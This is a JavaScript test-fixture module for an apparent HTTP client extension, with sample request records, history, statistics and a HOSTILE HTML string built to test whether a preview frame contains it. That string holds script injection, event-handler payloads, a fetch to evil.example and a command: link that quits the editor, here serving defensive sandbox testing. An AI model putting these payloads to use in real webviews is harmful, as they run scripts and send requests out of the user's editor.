'use strict';
// Exchanges as the server gives them, for tests and pictures of the response panel.

const PICTURE = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAA'
  + 'AABJRU5ErkJggg==';

/** A record of `postkit/exchange` with the view `record`. */
function record(more = {}) {
  return {
    id: '019a8f2e-7c11-7b3e-9d55-0a1b2c3d4e5f', time: '2026-11-21T10:00:00.000Z',
    file: '/shop/orders.http', name: 'orders', environment: 'staging', method: 'GET',
    url: 'https://shop.example/api/orders?page=1', state: 'done', status: 200, ms: 182, size: 4100,
    error: null, message: null, redacted: true, remoteAddress: '203.0.113.7:443',
    request: { headers: [['Host', 'shop.example'], ['Authorization', 'Bearer ••••••'],
      ['User-Agent', 'PostKit/0.1.0']], truncated: false },
    response: { httpVersion: 'HTTP/2', status: 200, reason: 'OK',
      headers: [['content-type', 'application/json'], ['cache-control', 'no-store'],
        ['x-request-id', '7f1c9a40-52a5-4c1e-93a7-8a5f3c9c2a11']],
      wireSize: 900, size: 4100, truncated: false },
    hops: [{ method: 'GET', url: 'http://shop.example/api/orders?page=1', status: 308,
      requestHeaders: [['Host', 'shop.example']],
      responseHeaders: [['Location', 'https://shop.example/api/orders?page=1']], ms: 41,
      timings: { dns: 12, connect: 26, tls: 0, firstByte: 40, total: 41 } }],
    timings: { dns: 41.2, connect: 58, tls: 95, firstByte: 171, total: 182 },
    tests: [{ name: 'status == 200', passed: true, message: '' },
      { name: 'body $.total > 10', passed: false, message: 'The value is `3`.' }],
    pinned: false, label: null, note: null, mood: 'failed', verdict: '1 of 2 tests failed',
    summary: '200 OK  182 ms  4.1 kB  ✗ 1 of 2 tests failed', ...more,
  };
}

/** One line of the history. */
function entry(id, more = {}) {
  return { id, time: '2026-11-21T09:00:00.000Z', file: '/shop/orders.http', name: 'orders',
    environment: 'staging', method: 'GET', url: 'https://shop.example/api/orders?page=1',
    state: 'done', status: 200, ms: 204, size: 4000, summary: '200 OK  204 ms  4.0 kB', mood: 'done',
    error: null, ...more };
}

/** All that the page shows. */
function values(more = {}) {
  const shown = more.record ?? record();
  return {
    record: shown,
    preview: { kind: 'text', text: '{\n  "total": 3,\n  "orders": [101, 102, 103]\n}', total: 44,
      size: '44 B', eof: true },
    raw: { text: '{"total":3,"orders":[101,102,103]}', total: 34, size: '34 B', eof: true },
    sent: { text: '', total: 0, size: '0 B', eof: true },
    history: [entry(shown.id), entry('019a8f2e-0000-7000-8000-000000000001', { status: 503,
      summary: '503 Service Unavailable  204 ms  4.0 kB', mood: 'failed',
      time: '2026-11-20T09:00:00.000Z' })],
    ...more,
  };
}

/** HTML that tries all it can to reach out of its frame. */
const HOSTILE = `<!doctype html><title>x</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">
<style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/c) }
</style><script>top.stolen = 1; fetch('https://evil.example/d')</script>
<script src="https://evil.example/e.js"></script><img src="https://evil.example/f.png"
onerror="top.stolen = 2"><svg onload="top.stolen = 3"></svg>
<iframe src="https://evil.example/g"></iframe><object data="https://evil.example/h"></object>
<form action="https://evil.example/i"><button>Send</button></form>
<a href="command:workbench.action.quit">quit</a><video src="https://evil.example/j"></video>
<h1>Order 101</h1><p>Thank you.</p></body></html><script>top.stolen = 4</script>`;

/** What `postkit/statistics` gives, with what it was asked. */
function figures() {
  const row = { by: 'request', requestBytes: 0, last: '2026-11-21T10:00:00.000Z' };
  const texts = (median, p95, max, responseBytes, requestBytes = '0 B') =>
    ({ texts: { median, p95, max, requestBytes, responseBytes } });
  return { by: 'request', line: 'since:7d host:shop.example',
    summary: '5.0 MB received, 9.4 kB sent in bodies', rows: [
    { ...row, ...texts('182 ms', '431 ms', '2.2 s', '4.9 MB'), value: 'orders', file: '/shop/orders.http', count: 1200, failed: 1, median: 182,
      p95: 431, max: 2210, responseBytes: 4_920_000, line: 'file:/shop/orders.http name:orders' },
    { ...row, ...texts('612 ms', '1.2 s', '1 min 1 s', '31.0 kB', '9.4 kB'), value: 'login', file: '/shop/auth.http', count: 124, failed: 3, median: 612,
      p95: 1240, max: 61_000, requestBytes: 9_424, responseBytes: 31_000,
      line: 'file:/shop/auth.http name:login' },
    { ...row, ...texts('12 ms', '12 ms', '12 ms', '0 B'), value: null, count: 1, failed: 0, median: 12, p95: 12, max: 12, responseBytes: 0 },
  ] };
}

module.exports = { entry, figures, HOSTILE, PICTURE, record, values };
